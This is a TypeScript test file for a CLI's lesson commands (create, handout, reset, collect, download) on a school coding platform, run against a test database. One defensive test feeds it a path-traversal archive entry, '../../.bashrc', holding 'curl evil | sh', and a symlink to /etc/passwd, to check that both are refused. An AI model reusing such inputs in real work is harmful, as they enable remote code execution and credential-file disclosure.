/**
 * Issue 43 item 4, the CLI's side: `cli lessons list|create|update|show|handout|reset|collect|download`
 * run in this process as `bin/cli` runs them, on a real PostgreSQL database, through the store and
 * the Lessons service the API uses: what each prints (a table or a sentence; with --json the API's
 * answer, which cli-json.test.ts checks against the document), what it records and audits (actor
 * `cli`), and each bad input as one line with its code and exit code, nothing kept. The lesson
 * controller's part (a delivery reaching a home, a snapshot taken) is done through the store's
 * controller side, as controllers/lessons.ts does it; no server runs here.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import tar from 'tar-stream';
import { EXIT } from '../../src/cli/command.ts';
import { LessonFiles } from '../../src/lessons/lessons.ts';
import type { Store } from '../../src/store/index.ts';
import type { CollectionAnswer, HandoutAnswer, LessonAnswer, LessonDetail, LessonList, LessonResetAnswer } from '../../src/wire/schemas.ts';
import { tarOf, zipOf } from '../helpers/archives.ts';
import { cli } from '../helpers/cli.ts';
import { useTestDatabase } from '../helpers/db.ts';
import { startGitServer, type GitServer } from '../helpers/git-server.ts';
import { testStore } from '../helpers/store.ts';

const db = useTestDatabase();
let env: Record<string, string>;
let store: Store;
let dataDir: string;
let ada: { id: string; slug: string };
let bob: { id: string; slug: string };

/** What the CLI adds to a change when no server runs (none does in this file). */
const UNATTENDED = ' No control plane is running to act on it: it takes effect when the server starts.';

beforeEach(async () => {
  dataDir = await mkdtemp(path.join(os.tmpdir(), 'cp-cli-lessons-'));
  env = { DATABASE_URL: db.url, DATA_DIR: dataDir, NODE_ENV: 'test', LESSON_MAX_SIZE: '1m' };
  store = testStore(db.dataSource);
  ada = (await store.users.create({ email: 'ada@school.test' })).workspace;
  bob = (await store.users.create({ email: 'bob@school.test' })).workspace;
  await store.users.create({ email: 'coach@school.test', role: 'admin' });
});

/** A folder of the lesson "Drive Intro" on this machine: two files and a subfolder. */
async function lessonFolder(robot = 'class Robot {}\n'): Promise<string> {
  const folder = await mkdtemp(path.join(os.tmpdir(), 'cp-cli-lesson-src-'));
  await mkdir(path.join(folder, 'src'));
  await writeFile(path.join(folder, 'src', 'Robot.java'), robot);
  await writeFile(path.join(folder, 'README.md'), '# Drive\n');
  return folder;
}

/** A .tar.gz (a .tar with `plain`) of these entries, written to a file; answers its path. */
async function archiveFile(entries: (Partial<tar.Header> & { name: string; text?: string })[], plain = false): Promise<string> {
  const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'cp-cli-lesson-tar-')), plain ? 'lesson.tar' : 'lesson.tar.gz');
  await writeFile(file, await tarOf(entries, plain));
  return file;
}

/** Runs a command with --json, expecting success, and answers what it printed. */
async function json<T>(argv: string[]): Promise<T> {
  const result = await cli([...argv, '--json'], env);
  expect({ code: result.code, stderr: result.stderr }).toEqual({ code: EXIT.ok, stderr: '' });
  return JSON.parse(result.stdout) as T;
}

/** Runs a command expected to fail: its exit code and the error's code and message (from --json), and the one line without it. */
async function failure(argv: string[]): Promise<{ exit: number; code: string; message: string; line: string }> {
  const plain = await cli(argv, env);
  const withJson = await cli([...argv, '--json'], env);
  expect({ stdout: plain.stdout, jsonStdout: withJson.stdout, exits: plain.code === withJson.code }).toEqual({ stdout: '', jsonStdout: '', exits: true });
  const { error } = JSON.parse(withJson.stderr) as { error: { code: string; message: string } };
  expect(plain.stderr).toBe(`Error: ${error.message}\n`);
  return { exit: plain.code, code: error.code, message: error.message, line: plain.stderr };
}

const audits = async (action: string) =>
  (await db.dataSource.query('SELECT actor_id, actor_email, target_id, metadata FROM audit_log WHERE action = $1 ORDER BY id', [action])) as {
    actor_id: string | null;
    actor_email: string;
    target_id: string;
    metadata: Record<string, unknown>;
  }[];

const lessonCount = async () => Number(((await db.dataSource.query('SELECT count(*) AS n FROM lessons')) as { n: string }[])[0]!.n);

/** The lesson made from a folder through the CLI. */
async function created(name = 'Drive Intro'): Promise<LessonAnswer['lesson']> {
  return (await json<LessonAnswer>(['lessons', 'create', name, await lessonFolder()])).lesson;
}

/** Does the lesson controller's part of a handout: every pending delivery of the workspace reaches its home. */
async function deliver(workspace: { id: string; slug: string }): Promise<void> {
  for (const delivery of await store.lessons.deliveriesOf(workspace.id))
    if (delivery.state === 'pending') {
      await store.lessons.choose(delivery, delivery.lessonName);
      await store.lessons.markDelivered(delivery, `ws-${workspace.slug}-home`);
    }
}

/** The names and texts of a .tar.gz file. */
async function entriesOf(file: string): Promise<Map<string, string>> {
  const extract = tar.extract();
  Readable.from([gunzipSync(await readFile(file))]).pipe(extract);
  const found = new Map<string, string>();
  for await (const entry of extract) {
    const chunks: Buffer[] = [];
    for await (const chunk of entry) chunks.push(chunk as Buffer);
    found.set(entry.header.type === 'directory' ? `${entry.header.name.replace(/\/$/, '')}/` : entry.header.name, Buffer.concat(chunks).toString('utf8'));
  }
  return found;
}

describe('lessons create and update', () => {
  it('makes a lesson of a folder as actor cli (audited lesson.create), keeps its version, and says how to hand it out', async () => {
    const result = await cli(['lessons', 'create', 'Drive Intro', await lessonFolder()], env);
    expect(result).toEqual({
      code: EXIT.ok,
      stdout: `Made lesson Drive Intro (version 1): 2 files, 23 B. Hand it out with "lessons handout 'Drive Intro' --all".\n`,
      stderr: '',
    });
    const [lesson] = await store.lessons.list();
    expect(lesson).toMatchObject({ name: 'Drive Intro', createdBy: 'cli', latest: { version: 1, files: 2, sizeBytes: 23 } });
    expect(existsSync(new LessonFiles(dataDir).version(lesson!.id, 1))).toBe(true);
    expect(await audits('lesson.create')).toEqual([
      { actor_id: null, actor_email: 'cli', target_id: lesson!.id, metadata: expect.objectContaining({ name: 'Drive Intro', version: 1, files: 2 }) },
    ]);
  });

  it('makes a lesson of a .tar.gz, a .tar and a .zip of its folder, that folder being the lesson', async () => {
    // Archives made a second apart differ by their entries' times unless these are given (the lesson keeps them).
    const mtime = new Date('2026-09-01T12:00:00Z');
    const entries = [
      { name: 'drive-intro/', type: 'directory' as const, mode: 0o755, mtime },
      { name: 'drive-intro/src/Robot.java', text: 'class Robot {}\n', mtime },
      { name: 'drive-intro/gradlew', text: '#!/bin/sh\n', mode: 0o755, mtime },
    ];
    const gz = await json<LessonAnswer>(['lessons', 'create', 'From Gzip', await archiveFile(entries)]);
    const plain = await json<LessonAnswer>(['lessons', 'create', 'From Tar', await archiveFile(entries, true)]);
    expect([gz.lesson.latest.files, plain.lesson.latest.files]).toEqual([2, 2]);
    expect(gz.lesson.latest.sha256).toBe(plain.lesson.latest.sha256);
    const zipFile = path.join(await mkdtemp(path.join(os.tmpdir(), 'cp-cli-lesson-zip-')), 'lesson.zip');
    await writeFile(
      zipFile,
      await zipOf(entries.map(({ name, text, mode }) => ({ name, text, mode: name.endsWith('/') ? undefined : 0o100000 | (mode ?? 0o644), mtime }))),
    );
    const zipped = await json<LessonAnswer>(['lessons', 'create', 'From Zip', zipFile]);
    expect(zipped.lesson.latest.sha256).toBe(plain.lesson.latest.sha256);
    // Every entry keeps the archive's time, the folder it does not list (src) its newest entry's.
    const extract = tar.extract();
    Readable.from([await readFile(new LessonFiles(dataDir).version(gz.lesson.id, 1))]).pipe(extract);
    const times: string[] = [];
    for await (const entry of extract) {
      times.push(`${entry.header.name} ${entry.header.mtime?.toISOString()}`);
      entry.resume();
    }
    expect(times).toEqual(['gradlew', 'src', 'src/Robot.java'].map((name) => `${name} ${mtime.toISOString()}`));
  });

  it('adds the next version to a lesson named in any case, or by its id (audited lesson.create naming it)', async () => {
    const lesson = await created();
    const second = await cli(['lessons', 'update', 'DRIVE intro', await lessonFolder('class Robot { void drive() {} }\n')], env);
    expect(second).toMatchObject({ code: EXIT.ok, stderr: '' });
    expect(second.stdout).toBe(
      `Drive Intro is at version 2: 2 files, 40 B. Hand it out with "lessons handout 'Drive Intro' --all": it lands beside the earlier version.\n`,
    );
    const third = await json<LessonAnswer>(['lessons', 'update', lesson.id, await lessonFolder()]);
    expect(third.lesson).toMatchObject({ id: lesson.id, latest: { version: 3, createdBy: 'cli' } });
    expect((await audits('lesson.create')).map((row) => row.metadata.version)).toEqual([1, 2, 3]);
  });

  it('refuses a name taken in another case, and a name that cannot be a folder, keeping nothing', async () => {
    await created();
    expect(await failure(['lessons', 'create', 'drive INTRO', await lessonFolder()])).toMatchObject({ exit: EXIT.refused, code: 'lesson_exists' });
    expect(await failure(['lessons', 'create', '../escape', await lessonFolder()])).toMatchObject({ exit: EXIT.usage, code: 'invalid_lesson_name' });
    expect(await lessonCount()).toBe(1);
  });

  it('refuses an archive with an entry out of its folder, naming the entry; a link in a folder, naming it; before anything is kept', async () => {
    const climbing = await archiveFile([
      { name: 'ok.txt', text: 'fine\n' },
      { name: '../../.bashrc', text: 'curl evil | sh\n' },
    ]);
    const refused = await failure(['lessons', 'create', 'Escape', climbing]);
    expect(refused).toMatchObject({ exit: EXIT.usage, code: 'lesson_archive_unsafe' });
    expect(refused.line).toBe(`Error: The archive's entry "../../.bashrc" climbs out of its folder (..); nothing was kept.\n`);

    const folder = await lessonFolder();
    await symlink('/etc/passwd', path.join(folder, 'src', 'passwd'));
    expect(await failure(['lessons', 'create', 'Linked', folder])).toMatchObject({
      exit: EXIT.usage,
      code: 'lesson_archive_unsafe',
      message: '"src/passwd" is a link: a lesson holds files and folders only; nothing was kept.',
    });
    expect(await lessonCount()).toBe(0);
    expect(await audits('lesson.create')).toEqual([]);
    // Nothing left behind of the unpacking either.
    expect(await readdir(path.join(dataDir, 'lessons', 'tmp'))).toEqual([]);
  });

  it('refuses a file that is no archive, a path with nothing there, and a lesson past LESSON_MAX_SIZE, each with its code and exit code', async () => {
    const notAnArchive = path.join(await lessonFolder(), 'README.md');
    expect(await failure(['lessons', 'create', 'Text', notAnArchive])).toMatchObject({
      exit: EXIT.usage,
      code: 'lesson_archive_invalid',
      message: 'The upload is not a .zip, .tar or .tar.gz archive.',
    });
    expect(await failure(['lessons', 'create', 'Nowhere', path.join(dataDir, 'no-such-folder')])).toMatchObject({
      exit: EXIT.notFound,
      code: 'lesson_source_not_found',
    });
    const big = await mkdtemp(path.join(os.tmpdir(), 'cp-cli-lesson-big-'));
    await writeFile(path.join(big, 'data.bin'), Buffer.alloc(1024 * 1024 + 1));
    expect(await failure(['lessons', 'create', 'Big', big])).toMatchObject({ exit: EXIT.refused, code: 'lesson_too_large' });
    expect(await lessonCount()).toBe(0);
  });

  it('tells an unknown lesson to update apart, naming what was given', async () => {
    expect(await failure(['lessons', 'update', 'Nope', await lessonFolder()])).toEqual({
      exit: EXIT.notFound,
      code: 'lesson_not_found',
      message: 'No lesson "Nope" (give its name or id; "lessons list" lists them).',
      line: 'Error: No lesson "Nope" (give its name or id; "lessons list" lists them).\n',
    });
  });
});

describe('lessons list and show', () => {
  it('lists each lesson with its latest version, files, size and how its handouts stand', async () => {
    expect(await cli(['lessons', 'list'], env)).toEqual({
      code: EXIT.ok,
      stdout: 'No lessons yet: make one with "lessons create <name> <folder or archive>".\n',
      stderr: '',
    });
    const lesson = await created();
    await json(['lessons', 'handout', 'Drive Intro', '--all']);
    await deliver(ada);
    const table = await cli(['lessons', 'list'], env);
    expect(table.stdout.split('\n')).toEqual([
      'NAME         VERSION  FILES  SIZE  DELIVERED  PENDING  FAILED  ID',
      `Drive Intro  1        2      23 B  1          1        0       ${lesson.id}`,
      '',
    ]);
    const listed = await json<LessonList>(['lessons', 'list']);
    expect(listed.lessons).toEqual([expect.objectContaining({ id: lesson.id, deliveries: { pending: 1, delivered: 1, failed: 0 } })]);
  });

  it("shows a lesson's versions, each student's delivery with its folder and why one failed, and its collections", async () => {
    const lesson = await created();
    await json(['lessons', 'update', 'Drive Intro', await lessonFolder()]);
    await json(['lessons', 'handout', 'Drive Intro', '--all']);
    await deliver(ada);
    const [bobs] = await store.lessons.deliveriesOf(bob.id);
    await store.lessons.markFailed(bobs!, 'the home volume is on a node that is down');
    const asked = await json<CollectionAnswer>(['lessons', 'collect', 'Drive Intro', '--at', '2099-01-01']);

    const shown = await cli(['lessons', 'show', 'drive intro'], env);
    expect(shown.code).toBe(EXIT.ok);
    const lines = shown.stdout.split('\n');
    expect(lines[0]).toMatch(new RegExp(`^Lesson Drive Intro \\(${lesson.id}\\), made by cli on \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d\\.$`));
    expect(lines.slice(2, 5).map((line) => line.replace(/\d{4}-\d\d-\d\d \d\d:\d\d/, 'TIME'))).toEqual([
      'VERSION  FILES  SIZE  BY   MADE',
      '2        2      23 B  cli  TIME',
      '1        2      23 B  cli  TIME',
    ]);
    expect(lines.slice(6, 9)).toEqual([
      'STUDENT  VERSION  STATE      FOLDER               MESSAGE',
      `${ada.slug}      2        delivered  lessons/Drive Intro  `,
      `${bob.slug}      2        failed                          the home volume is on a node that is down`,
    ]);
    expect(lines.slice(10, 12)).toEqual([
      'COLLECTION                            DUE               STATE      SNAPSHOTS',
      `${asked.collection.id}  2099-01-01 00:00  due later  0 snapshots`,
    ]);

    const detail = await json<LessonDetail>(['lessons', 'show', lesson.id]);
    expect(detail.versions.map((each) => each.version)).toEqual([2, 1]);
    expect(detail.students.map((each) => [each.slug, each.state, each.folder, each.message])).toEqual([
      [ada.slug, 'delivered', 'Drive Intro', ''],
      [bob.slug, 'failed', null, 'the home volume is on a node that is down'],
    ]);
    expect(detail.collections.map((each) => each.id)).toEqual([asked.collection.id]);
    expect(await failure(['lessons', 'show', 'Nope'])).toMatchObject({ exit: EXIT.notFound, code: 'lesson_not_found' });
  });
});

describe('lessons handout', () => {
  it('hands the latest version to every student (audited lesson.handout), and leaves those who have it alone', async () => {
    const lesson = await created();
    const result = await cli(['lessons', 'handout', 'Drive Intro', '--all'], env);
    expect(result).toEqual({
      code: EXIT.ok,
      stdout: `Handing Drive Intro version 1 out to 2 students: the running server's lesson controller writes it into each home under lessons/; "lessons show 'Drive Intro'" follows each delivery.${UNATTENDED}\n`,
      stderr: '',
    });
    expect((await store.lessons.detail(lesson.id)).students.map((each) => [each.slug, each.state])).toEqual([
      [ada.slug, 'pending'],
      [bob.slug, 'pending'],
    ]);
    expect(await audits('lesson.handout')).toEqual([
      { actor_id: null, actor_email: 'cli', target_id: lesson.id, metadata: { name: 'Drive Intro', version: 1, students: 2, all: true } },
    ]);
    expect(await json<HandoutAnswer>(['lessons', 'handout', 'Drive Intro', '--all'])).toEqual({ version: 1, students: 0 });
    expect((await cli(['lessons', 'handout', 'Drive Intro', '--all'], env)).stdout).toBe(
      'Everyone named has Drive Intro version 1 already, or has it on its way: nothing more was asked.\n',
    );
  });

  it('hands it to the students named by slug or email, each once', async () => {
    const lesson = await created();
    expect(await json<HandoutAnswer>(['lessons', 'handout', 'Drive Intro', '--student', ada.slug, '--student', 'ADA@school.test'])).toEqual({
      version: 1,
      students: 1,
    });
    expect((await store.lessons.detail(lesson.id)).students.map((each) => each.slug)).toEqual([ada.slug]);
    expect((await audits('lesson.handout'))[0]!.metadata).toEqual({ name: 'Drive Intro', version: 1, students: 1, all: false });
  });

  it('refuses a handout to no one, to both --all and students, to an unknown student or lesson, asking nothing', async () => {
    await created();
    expect(await failure(['lessons', 'handout', 'Drive Intro'])).toEqual({
      exit: EXIT.usage,
      code: 'usage',
      message: 'Say who gets it: --all for every student, or --student <slug or email> (once for each).',
      line: 'Error: Say who gets it: --all for every student, or --student <slug or email> (once for each).\n',
    });
    expect(await failure(['lessons', 'handout', 'Drive Intro', '--all', '--student', ada.slug])).toMatchObject({
      exit: EXIT.usage,
      code: 'invalid_flags',
      message: '--all and --student exclude each other: use one.',
    });
    expect(await failure(['lessons', 'handout', 'Drive Intro', '--student', 'nobody@school.test'])).toMatchObject({
      exit: EXIT.notFound,
      code: 'workspace_not_found',
    });
    expect(await failure(['lessons', 'handout', 'Nope', '--all'])).toMatchObject({ exit: EXIT.notFound, code: 'lesson_not_found' });
    expect(await audits('lesson.handout')).toEqual([]);
  });
});

describe('lessons reset', () => {
  it("asks for a student's folder to be reset once the lesson reached them (audited lesson.reset on their workspace)", async () => {
    const lesson = await created();
    await json(['lessons', 'handout', 'Drive Intro', '--all']);
    expect(await failure(['lessons', 'reset', 'Drive Intro', ada.slug])).toEqual({
      exit: EXIT.refused,
      code: 'lesson_not_delivered',
      message: `Drive Intro has not reached ${ada.slug}'s home: hand it out first.`,
      line: `Error: Drive Intro has not reached ${ada.slug}'s home: hand it out first.\n`,
    });
    await deliver(ada);
    const result = await cli(['lessons', 'reset', 'drive intro', 'ada@school.test'], env);
    expect(result).toEqual({
      code: EXIT.ok,
      stdout: `Resetting ${ada.slug}'s lessons/Drive Intro to Drive Intro version 1: the running server's lesson controller backs up the home first.${UNATTENDED}\n`,
      stderr: '',
    });
    expect((await store.lessons.deliveriesOf(ada.id))[0]!.resetRequestedAt).not.toBeNull();
    expect(await audits('lesson.reset')).toEqual([
      { actor_id: null, actor_email: 'cli', target_id: ada.id, metadata: { slug: ada.slug, lesson: 'Drive Intro', lessonId: lesson.id, version: 1 } },
    ]);
    const answer = await json<LessonResetAnswer>(['lessons', 'reset', 'Drive Intro', ada.slug]);
    expect(answer.delivery).toMatchObject({ slug: ada.slug, version: 1, state: 'delivered', folder: 'Drive Intro' });
    expect(await failure(['lessons', 'reset', 'Drive Intro', 'nobody'])).toMatchObject({ exit: EXIT.notFound, code: 'workspace_not_found' });
    expect(await failure(['lessons', 'reset', 'Nope', ada.slug])).toMatchObject({ exit: EXIT.notFound, code: 'lesson_not_found' });
  });
});

describe('lessons collect and download', () => {
  it('asks for a collection now or at a deadline (audited lesson.collect), saying the server takes the snapshots', async () => {
    const lesson = await created();
    const now = await cli(['lessons', 'collect', 'Drive Intro'], env);
    expect(now.code).toBe(EXIT.ok);
    expect(now.stdout).toMatch(
      /^Asked for a collection of Drive Intro \([0-9a-f-]{36}\), due now: the running server's lesson controller takes a snapshot of each student's folders of it then\. "lessons download 'Drive Intro'" writes the archive once it is done\. No control plane/,
    );
    const later = await json<CollectionAnswer>(['lessons', 'collect', 'Drive Intro', '--at', '2026-12-04T15:30:00-05:00']);
    expect(later.collection).toMatchObject({ lessonId: lesson.id, requestedBy: 'cli', dueAt: '2026-12-04T20:30:00.000Z', doneAt: null, snapshots: [] });
    expect((await audits('lesson.collect')).map((row) => [row.actor_email, row.target_id, row.metadata.dueAt])).toEqual([
      ['cli', lesson.id, undefined],
      ['cli', lesson.id, '2026-12-04T20:30:00.000Z'],
    ]);
  });

  it('refuses a deadline that is not a date, and an unknown lesson, asking nothing', async () => {
    await created();
    expect(await failure(['lessons', 'collect', 'Drive Intro', '--at', 'next friday'])).toEqual({
      exit: EXIT.usage,
      code: 'invalid_date',
      message: '--at must be a date (2026-09-01, midnight UTC) or an ISO 8601 date-time with a time zone (2026-09-01T08:00:00Z); got "next friday".',
      line: 'Error: --at must be a date (2026-09-01, midnight UTC) or an ISO 8601 date-time with a time zone (2026-09-01T08:00:00Z); got "next friday".\n',
    });
    expect(await failure(['lessons', 'collect', 'Drive Intro', '--at', '2026-02-30'])).toMatchObject({ exit: EXIT.usage, code: 'invalid_date' });
    expect(await failure(['lessons', 'collect', 'Nope'])).toMatchObject({ exit: EXIT.notFound, code: 'lesson_not_found' });
    expect(await audits('lesson.collect')).toEqual([]);
  });

  it('writes the latest done collection as one archive with a folder per student, or the one named; refuses one not done', async () => {
    const lesson = await created();
    await json(['lessons', 'handout', 'Drive Intro', '--all']);
    await deliver(ada);
    await deliver(bob);
    expect(await failure(['lessons', 'download', 'Drive Intro'])).toMatchObject({ exit: EXIT.notFound, code: 'collection_not_found' });

    // The first collection, done as the controller does it: ada's folder taken, bob's missing.
    const first = (await json<CollectionAnswer>(['lessons', 'collect', 'Drive Intro'])).collection;
    await store.lessons.workspacesWithWork();
    const snapshot = new LessonFiles(dataDir).snapshot(lesson.id, first.id, ada.id);
    const pack = tar.pack();
    pack.entry({ name: 'Drive Intro/', type: 'directory', mode: 0o755 });
    pack.entry({ name: 'Drive Intro/Robot.java', mode: 0o644 }, 'class Robot { /* ada */ }\n');
    pack.finalize();
    await mkdir(path.dirname(snapshot), { recursive: true });
    const chunks: Buffer[] = [];
    for await (const chunk of pack) chunks.push(chunk as Buffer);
    await writeFile(snapshot, Buffer.concat(chunks));
    await store.lessons.snapshotDone(
      { collectionId: first.id, workspaceId: ada.id, lessonId: lesson.id },
      { state: 'taken', folders: ['Drive Intro'], files: 1 },
    );
    await store.lessons.snapshotDone({ collectionId: first.id, workspaceId: bob.id, lessonId: lesson.id }, { state: 'missing' });
    // A later one, due later: the latest done is still the first.
    const second = (await json<CollectionAnswer>(['lessons', 'collect', 'Drive Intro', '--at', '2099-01-01'])).collection;

    const file = path.join(dataDir, 'collected.tar.gz');
    const result = await cli(['lessons', 'download', 'drive intro', '--output', file], env);
    expect(result).toMatchObject({ code: EXIT.ok, stderr: '' });
    expect(result.stdout).toMatch(
      new RegExp(
        `^Wrote ${file.replace(/[.]/g, '\\.')}: Drive Intro as collected \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d UTC, the folders of 1 student \\(1 more not collected: NOT-COLLECTED.txt in their folders says why\\)\\.\n$`,
      ),
    );
    const entries = await entriesOf(file);
    expect([...entries.keys()]).toEqual([
      'Drive Intro/',
      `Drive Intro/${ada.slug}/`,
      `Drive Intro/${ada.slug}/Drive Intro/`,
      `Drive Intro/${ada.slug}/Drive Intro/Robot.java`,
      `Drive Intro/${bob.slug}/`,
      `Drive Intro/${bob.slug}/NOT-COLLECTED.txt`,
    ]);
    expect(entries.get(`Drive Intro/${ada.slug}/Drive Intro/Robot.java`)).toBe('class Robot { /* ada */ }\n');

    // Named by id, with --json: the collection written, as the API shows it; the default file name is the archive's own.
    const cwd = process.cwd();
    process.chdir(dataDir);
    try {
      const named = await json<CollectionAnswer>(['lessons', 'download', lesson.id, first.id]);
      expect(named.collection).toMatchObject({ id: first.id, doneAt: expect.any(String) });
    } finally {
      process.chdir(cwd);
    }
    expect((await readdir(dataDir)).filter((name) => name.startsWith('Drive-Intro-collected-'))).toHaveLength(1);

    expect(await failure(['lessons', 'download', 'Drive Intro', second.id, '--output', file])).toEqual({
      exit: EXIT.refused,
      code: 'collection_not_done',
      message: `This collection is due at ${second.dueAt}.`,
      line: `Error: This collection is due at ${second.dueAt}.\n`,
    });
    expect(await failure(['lessons', 'download', 'Drive Intro', 'not-an-id'])).toMatchObject({ exit: EXIT.notFound, code: 'collection_not_found' });
  });

  it('says no collection is done while the only one is due later', async () => {
    await created();
    await json(['lessons', 'collect', 'Drive Intro', '--at', '2099-01-01']);
    expect(await failure(['lessons', 'download', 'Drive Intro'])).toEqual({
      exit: EXIT.refused,
      code: 'collection_not_done',
      message:
        "No collection of Drive Intro is done yet: the latest is due 2099-01-01 00:00 UTC, and the running server's lesson controller takes its snapshots then.",
      line: "Error: No collection of Drive Intro is done yet: the latest is due 2099-01-01 00:00 UTC, and the running server's lesson controller takes its snapshots then.\n",
    });
  });
});

describe('lessons from a git repository', () => {
  let git: GitServer;
  beforeAll(async () => {
    git = await startGitServer();
    await git.repository('season', { 'README.md': '# Season\n', 'lessons/drive/Drive.java': 'class Drive {}\n', 'lessons/drive/notes.txt': 'drive\n' });
  }, 60_000);
  afterAll(async () => {
    await git?.close();
  });
  const withGit = () =>
    Object.assign(env, { IMPORT_CA_FILE: git.caFile, IMPORT_ALLOWED_HOSTS: '127.0.0.1', IMPORT_ALLOWED_ADDRESSES: '127.0.0.1', IMPORT_TIMEOUT_SECONDS: '20' });

  it("makes a lesson of a repository's folder, and its next version, as the API does (audited lesson.create)", async () => {
    withGit();
    const url = `${git.origin('127.0.0.1')}/git/season.git`;
    const { lesson } = await json<LessonAnswer>(['lessons', 'create', 'Drive', url, '--subfolder', 'lessons/drive']);
    expect(lesson).toMatchObject({ name: 'Drive', latest: { version: 1, files: 2 } });
    const next = await json<LessonAnswer>(['lessons', 'update', 'drive', url, '--subfolder', 'lessons/drive', '--branch', 'main']);
    expect(next.lesson.latest.version).toBe(2);
    expect((await audits('lesson.create')).map((row) => [row.actor_email, row.metadata.version])).toEqual([
      ['cli', 1],
      ['cli', 2],
    ]);
  });

  it('refuses a host not allowed, a branch that is not there, and --branch with a path, each with its code and exit code', async () => {
    withGit();
    expect(await failure(['lessons', 'create', 'Drive', 'https://example.org/team/lessons.git'])).toMatchObject({
      exit: EXIT.refused,
      code: 'import_host_refused',
    });
    expect(await failure(['lessons', 'create', 'Drive', `${git.origin('127.0.0.1')}/git/season.git`, '--branch', 'nope'])).toMatchObject({
      exit: EXIT.notFound,
      code: 'import_branch_not_found',
    });
    expect(await failure(['lessons', 'create', 'Drive', await lessonFolder(), '--branch', 'main'])).toMatchObject({ exit: EXIT.usage, code: 'invalid_flags' });
    expect(await lessonCount()).toBe(0);
  });
});
